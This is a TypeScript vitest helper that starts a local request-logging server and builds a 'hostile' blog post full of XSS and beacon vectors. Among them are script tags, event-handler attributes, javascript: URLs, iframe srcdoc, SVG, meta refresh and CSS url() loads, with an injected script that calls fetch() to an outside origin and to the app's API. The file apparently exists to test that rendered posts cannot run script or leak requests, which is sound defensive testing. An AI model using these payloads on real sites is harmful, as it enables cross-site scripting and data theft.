import { type Server, createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { onTestFinished } from 'vitest'

/** A server of somebody else's, on this machine, that remembers who called. */
export interface StrangeServer {
  readonly origin: string
  readonly calls: readonly string[]
}

export async function strangeServer(): Promise<StrangeServer> {
  const calls: string[] = []
  const server: Server = createServer((request, response) => {
    calls.push(`${request.method} ${request.url}`)
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('{}')
  })
  await new Promise<void>(ready => server.listen(0, '127.0.0.1', ready))
  onTestFinished(() => void server.close())
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, calls }
}

/**
 * A post that tries everything a page can try: to run script, to call `away`, to reach the app at `app`, to leave.
 * A script that does run sets `pwned` on every window it reaches.
 */
export function hostilePost(away: string, app: string): string {
  const script = `try{window.pwned=1;parent.pwned=1;top.pwned=1}catch(e){};fetch('${away}/script');fetch('${app}/api/listPosts',{method:'POST',body:'[]'})`
  const attribute = script.replaceAll('"', '&quot;')
  return `---
layout: post
title: "<img src=x onerror=\\"${attribute}\\">"
---
<script>${script}</script>

<script src="${away}/script.js"></script>

<img src="${away}/pixel.gif" alt="pixel" width="40" height="30">

<img src="x" onerror="${attribute}" alt="">

<picture><source srcset="${away}/source.webp"><img src="${away}/fallback.png" alt=""></picture>

<svg onload="${attribute}"><script>${script}</script><image href="${away}/svg.png"/><use href="${away}/use.svg#a"/></svg>

<iframe src="${away}/frame"></iframe>

<iframe srcdoc="<script>${attribute}</script>"></iframe>

<iframe src="javascript:${attribute}"></iframe>

<iframe src="${app}/"></iframe>

<object data="${away}/object"></object><embed src="${away}/embed">

<link rel="stylesheet" href="${away}/sheet.css"><link rel="preload" as="image" href="${away}/preload.png"><link rel="prefetch" href="${away}/prefetch">

<style>@import url(${away}/import.css); body { background: url(${away}/background.png) } @font-face { font-family: x; src: url(${away}/font.woff2) } p { font-family: x }</style>

<div style="background: url(${away}/inline.png)">styled</div>

<table background="${away}/table.png"><tr><td>cell</td></tr></table>

<video src="${away}/video.mp4" poster="${away}/poster.png" autoplay></video><audio src="${away}/audio.mp3" autoplay></audio>

<meta http-equiv="refresh" content="0;url=${away}/refresh"><base href="${away}/base/">

<form action="${away}/form" method="post"><input name="a" value="b" autofocus onfocus="${attribute}"><input type="image" src="${away}/image.png" alt=""><button id="send">Send</button></form>

<a id="leave" href="${away}/link" target="_top" ping="${away}/ping">leave</a> <a id="run" href="javascript:${attribute}">run</a>

<details open ontoggle="${attribute}"><summary>more</summary>text</details>

<math><mtext><img src="${away}/math.png" onerror="${attribute}"></mtext></math>

<template shadowrootmode="open"><script>${script}</script><img src="${away}/shadow.png"></template>

![tracker](${away}/markdown.png)

[click](javascript:${encodeURIComponent(script)})
`
}
